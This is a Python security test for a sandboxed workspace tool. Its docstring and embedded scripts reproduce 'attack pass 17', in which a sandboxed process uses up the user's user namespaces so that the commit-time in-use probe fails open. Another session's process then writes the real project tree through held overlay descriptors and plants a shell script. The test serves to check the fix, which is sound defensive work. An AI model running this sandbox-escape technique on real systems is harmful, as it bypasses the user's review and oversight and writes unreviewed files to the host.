"""Attack pass 17 (critical: a host write after commit, never reviewed): another session's
process blinds commit's in-use probe by using up the user's user namespaces, then writes the
real tree through a descriptor of the committed session's overlay.

Pass 16 closed "a descriptor of the overlay held outside the session writes the real files
commit renamed into place" with a probe (manager/fs/overlay_inuse.py): in a user+mount
namespace of its own, a second overlay asks for ``index=on`` over each upper; EBUSY = in use.
When the probe cannot tell, ``still_used`` returns None and ``refuse_held`` treats None as
"nothing held": commit goes on. The probe's first step is ``unshare(CLONE_NEWUSER |
CLONE_NEWNS)`` as the user; the kernel counts user namespaces per user, on the host's level,
for every namespace a process of that user creates anywhere, nested ones in a sandbox
included (/proc/sys/user/max_user_namespaces, ~96k here). A sandboxed call can make them
(unshare -U is allowed in the sandbox, chains of ~32 nested namespaces per short-lived child,
each chain kept alive by one descriptor of its deepest /proc/self/ns/user): ~3,000 forks,
~15 s. Then the probe's unshare fails with ENOSPC, the probe says "unshare", commit applies
while the descriptor is held, and the holder writes the real files (pass 16's attack, whole).
With subordinate ids commit then crashes in tidy_upper (PermissionError removing an upper
directory it would enter a user namespace for), after the files are already in place.

Reproduction (ordinary user, overlay engine): in project Q, ``workspace run -- python3
recv.py`` (receives descriptors of P's overlay files over an abstract unix socket, then
creates user namespaces until ENOSPC and keeps them, then writes through the descriptors a
little later); in project P, ``workspace run -- python3 send.py``; ``workspace status`` /
``diff`` / ``commit`` in P: commit succeeds; then ``P/note.txt`` and ``P/tracked.txt`` hold
the holder's bytes and ``P/newdir/planted.sh`` exists on the real disk.

Rule broken: nothing a sandboxed command does reaches the real system until the user reviews
and commits. Rule that would close the class: a safety check whose answer the sandbox can
influence fails closed: "cannot tell" refuses commit (or commit makes what it renames into
place out of reach of every old descriptor: fresh inodes, never the upper's), and the probe
needs no resource a sandboxed process of the same user can use up (or, better, runs it from
a namespace made before any call: e.g. the holder's or a probe kept from prepare).
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.engines import accounts
from tests.security.two_sessions import path_without
from tests.security.two_sessions import text

# Alone: it uses up the account's user namespaces, which every other test of it needs meanwhile.
pytestmark = [pytest.mark.engine, pytest.mark.needs_root, pytest.mark.alone]

RECEIVE = r"""
import ctypes, os, resource, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("\0" + sys.argv[1])
s.listen(4)
c, _ = s.accept()
_, fds, _, _ = socket.recv_fds(c, 100, 4)
print("received", len(fds), flush=True)

def chain(b):
    n = 0
    while True:
        uid, gid = os.geteuid(), os.getegid()
        if libc.unshare(0x10000000) != 0:
            break
        n += 1
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"),
                           ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
    fd = os.open("/proc/self/ns/user", os.O_RDONLY)
    socket.send_fds(b, [f"{n} {ctypes.get_errno()}".encode()], [fd])

step, _ = s.accept()        # the agent would start at once; the test says when
step.recv(10)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
while True:
    a, b = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        a.close()
        try:
            chain(b)
        finally:
            os._exit(0)
    b.close()
    msg, got, _, _ = socket.recv_fds(a, 100, 1)
    os.waitpid(pid, 0)
    a.close()
    held += got
    if int(msg.split()[0]) == 0:
        break
print("namespaces", len(held), flush=True)
step.sendall(b"full")
step.close()

go, _ = s.accept()
go.recv(10)
for fd in held:
    os.close(fd)
note, tracked, newdir = fds
os.pwrite(note, b"REPLACED AFTER COMMIT\n", 0)
os.ftruncate(note, len(b"REPLACED AFTER COMMIT\n"))
os.pwrite(tracked, b"REPLACED AFTER COMMIT\n", 0)
os.ftruncate(tracked, len(b"REPLACED AFTER COMMIT\n"))
fd = os.open("planted.sh", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755, dir_fd=newdir)
os.write(fd, b"#!/bin/sh\necho planted after commit\n")
os.close(fd)
print("wrote", flush=True)
"""

SEND = r"""
import os, socket, sys, time
os.mkdir("newdir")
with open("newdir/readme.txt", "w") as f:
    f.write("benign\n")
with open("note.txt", "w") as f:
    f.write("benign note\n")
with open("tracked.txt", "a") as f:
    f.write("benign edit\n")
fds = [os.open("note.txt", os.O_RDWR), os.open("tracked.txt", os.O_RDWR),
       os.open("newdir", os.O_RDONLY | os.O_DIRECTORY)]
for _ in range(200):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + sys.argv[1])
        break
    except OSError:
        s.close()
        time.sleep(0.1)
socket.send_fds(s, [b"fds"], fds)
print("sent", flush=True)
"""


def _account(ids: str, tmp_path: Path) -> tuple[accounts.Account, dict[str, str]]:
    account = accounts.make("ordinary", tmp_path)
    env = {"PATH": path_without(account, "newuidmap", "newgidmap")} \
        if ids == "single-mapping" else {}
    return account, env


def _tell(name: str, what: bytes, wait: bool = False, timeout: float = 20) -> bytes:
    deadline = time.monotonic() + timeout
    while True:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect("\0" + name)
            s.sendall(what)
            if not wait:
                s.close()
                return b""
            s.settimeout(timeout)
            answer = s.recv(10)
            s.close()
            return answer
        except OSError:
            s.close()
            if time.monotonic() > deadline:
                raise
            time.sleep(0.1)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs the ordinary test account")
@pytest.mark.parametrize("ids", ["single-mapping", "subordinate-ids"])
def test_a_blinded_probe_lets_a_held_descriptor_write_committed_files(
        ids: str, tmp_path: Path) -> None:
    account, env = _account(ids, tmp_path)
    tracked = account.project / "tracked.txt"
    tracked.write_text("original\n")
    account.chown(tracked)
    other = account.base / "other"
    other.mkdir()
    account.chown(other)
    name = f"ws-attack17-{uuid.uuid4().hex[:12]}"
    full = account.env(**env)
    receiver = subprocess.Popen(
        [*account.prefix, "env", *(f"{k}={v}" for k, v in full.items()), account.python, "-m",
         "manager", "run", "--project", str(other), "--", "python3", "-c", RECEIVE, name],
        cwd=other, env=full, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    told_go = False
    try:
        sent = account.ws("run", "--", "python3", "-c", SEND, name, env=env, timeout=60)
        assert "sent" in sent.stdout, sent
        review = json.loads(account.ws("status", "--json", env=env, check=True).stdout)
        assert not review.get("running"), review
        account.ws("diff", env=env, check=True)
        assert _tell(name, b"fill", wait=True, timeout=90) == b"full"
        done = account.ws("commit", env=env, timeout=60)
        refused = done.returncode != 0
        _tell(name, b"go")
        told_go = True
        out, err = receiver.communicate(timeout=60)
        assert "wrote" in out, (out, err)
        note = "" if refused else "benign note\n"
        edited = "original\n" if refused else "original\nbenign edit\n"
        late = {
            "note.txt": text(account.project / "note.txt"),
            "tracked.txt": tracked.read_text(),
            "newdir/planted.sh": (account.project / "newdir" / "planted.sh").exists(),
        }
        assert late == {"note.txt": note, "tracked.txt": edited, "newdir/planted.sh": False}, (
            "commit went on while a process of another session held a descriptor of this "
            "session's overlay (its probe could not make a user namespace: the holder used "
            f"them all up), and that process then wrote the real tree: {late}; "
            f"commit said: {done.stdout!r} {done.stderr!r}; holder: {out!r}")
    finally:
        if not told_go:
            with contextlib.suppress(OSError):
                _tell(name, b"go", timeout=2)
        if receiver.poll() is None:
            receiver.kill()
            receiver.wait(timeout=10)
        accounts.clean(account)
